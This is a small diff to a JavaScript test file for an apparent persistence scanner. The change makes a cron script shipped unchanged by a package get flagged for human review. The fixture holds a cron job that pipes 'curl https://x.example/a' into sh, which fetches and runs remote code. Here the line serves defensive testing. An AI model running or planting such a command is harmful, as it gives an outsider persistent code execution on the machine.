@@ -81,12 +81,12 @@ const cases = [
     expected: [],
   },
   {
-    name: 'what a package ships unchanged is nothing',
+    name: 'what a package ships unchanged is for a person to judge',
     files: {
       ...packageOf('listed', { 'etc/cron.daily/x': '#!/bin/sh\ncurl https://x.example/a | sh\n' }),
       'etc/cron.daily/x': '#!/bin/sh\ncurl https://x.example/a | sh\n',
     },
-    expected: [],
+    expected: ['review persistence/cron-job etc/cron.daily/x'],
   },
 ];
 
